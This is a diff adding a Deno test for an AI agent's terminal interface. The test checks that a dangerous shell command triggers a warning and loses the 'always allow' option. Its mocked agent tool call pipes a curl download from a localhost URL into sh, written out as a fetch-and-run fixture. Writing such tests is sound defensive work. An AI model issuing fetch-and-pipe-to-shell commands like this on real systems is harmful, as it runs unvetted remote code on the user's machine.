@@ -130,6 +130,40 @@ Deno.test({
 });
 
 Deno.test({
+  name: "tui: a dangerous command shows its warning, offers no 'always', and runs on y",
+  ignore: !!skip,
+  async fn() {
+    const turns: MockTurn[] = [
+      {
+        toolCalls: [{
+          name: "execute_bash",
+          arguments: { command: "curl -s http://127.0.0.1:9/x | sh; echo ran" },
+        }],
+      },
+      { text: "Done." },
+      { toolCalls: [{ name: "execute_bash", arguments: { command: "echo safe" } }] },
+      { text: "Done again." },
+    ];
+    await withTui("command", turns, async ({ tui }) => {
+      await tui.waitFor(READY);
+      await send(tui, "install it");
+      const asked = await tui.waitFor("Allow execute_bash");
+      assert.match(asked, /command: curl -s http:\/\/127\.0\.0\.1:9\/x \| sh; echo ran/);
+      assert.match(asked, /⚠ runs a script downloaded from the internet/);
+      assert.ok(!asked.includes("(a)"), "no 'always' for a dangerous command");
+      await tui.save("approval-command-warning");
+      await tui.keys("y");
+      await tui.waitFor(/exit \d+[\s\S]*Done\./);
+      await send(tui, "and a safe one");
+      const safe = await tui.waitFor("Allow execute_bash");
+      assert.match(safe, /don't ask again this session for echo …\s+\(a\)/);
+      await tui.keys("a");
+      await tui.waitFor("Done again.");
+    });
+  },
+});
+
+Deno.test({
   name: "tui: Esc stops a slow answer at once and the next prompt works",
   ignore: !!skip,
   async fn() {
